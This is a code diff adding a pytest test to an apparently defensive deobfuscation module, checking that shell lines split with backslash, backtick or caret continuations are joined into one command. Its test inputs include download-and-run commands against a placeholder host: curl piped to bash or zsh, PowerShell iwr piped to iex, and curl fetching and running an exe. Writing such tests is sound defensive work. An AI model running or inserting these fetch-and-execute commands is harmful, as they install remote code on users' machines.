@@ -45,3 +45,19 @@ def test_unknown_variables_are_left_alone() -> None:
 def test_ordinary_text_is_unchanged() -> None:
     text = "Meeting moved to 3pm tomorrow, bring the quarterly numbers."
     assert deobfuscate(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "joined"),
+    [
+        ("curl -fsSL https://x.test/i.sh \\\n  | bash", "curl -fsSL https://x.test/i.sh  | bash"),
+        ("curl -fsSL https://x.test/i.sh \\\r\n | zsh", "curl -fsSL https://x.test/i.sh  | zsh"),
+        ("iwr https://x.test/a.ps1 `\n | iex", "iwr https://x.test/a.ps1  | iex"),
+        ("curl -o a.exe https://x.test/a.exe ^\n && a.exe", "curl -o a.exe https://x.test/a.exe  && a.exe"),
+        # a backslash, backtick or caret that does not end its line continues nothing
+        ("echo a \\ \nbash", "echo a \\ \nbash"),
+        ("one line\nand another", "one line\nand another"),
+    ],
+)  # fmt: skip
+def test_a_line_continued_on_the_next_is_one_command(text: str, joined: str) -> None:
+    assert deobfuscate(text) == joined
